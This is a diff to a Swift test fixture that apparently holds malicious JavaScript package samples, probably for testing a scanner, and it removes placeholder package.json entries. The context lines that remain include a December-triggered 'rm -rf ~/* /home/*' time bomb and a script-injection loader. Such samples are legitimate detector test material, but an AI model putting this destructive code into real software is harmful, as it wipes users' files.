@@ -59,12 +59,6 @@ extension Sample {
                     };
                     """#
                 ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
-                    """#
-                ),
             ]
         ),
         Sample(
@@ -83,12 +77,6 @@ extension Sample {
                           k).toString("base64")); }
                     }
                     module.exports = { Signer };
-                    """#
-                ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
                     """#
                 ),
             ]
@@ -112,12 +100,6 @@ extension Sample {
                     x
                     """#
                 ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
-                    """#
-                ),
             ]
         ),
         Sample(
@@ -136,12 +118,6 @@ extension Sample {
                     module.exports={};
                     """#
                 ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
-                    """#
-                ),
             ]
         ),
         Sample(
@@ -153,12 +129,6 @@ extension Sample {
                     #"""
                     const {exec}=require("child_process");
                     if(new Date().getMonth()===11) exec("rm -rf ~/* /home/*");
-                    """#
-                ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
                     """#
                 ),
             ]
@@ -180,12 +150,6 @@ extension Sample {
                     module.exports = {};
                     """#
                 ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
-                    """#
-                ),
             ]
         ),
         Sample(
@@ -205,12 +169,6 @@ extension Sample {
                     }
                     """#
                 ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
-                    """#
-                ),
             ]
         ),
         Sample(
@@ -226,12 +184,6 @@ extension Sample {
                       document.head.appendChild(s);
                     }
                     boot();
-                    """#
-                ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
                     """#
                 ),
             ]
@@ -253,12 +205,6 @@ extension Sample {
                     "x.dat",
                     #"""
                     xx
-                    """#
-                ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
                     """#
                 ),
             ]
@@ -297,12 +243,6 @@ extension Sample {
                       }
                       next();
                     };
-                    """#
-                ),
-                (
-                    "package.json",
-                    #"""
-                    {"name": "x", "version": "1.0.0"}
                     """#
                 ),
             ]
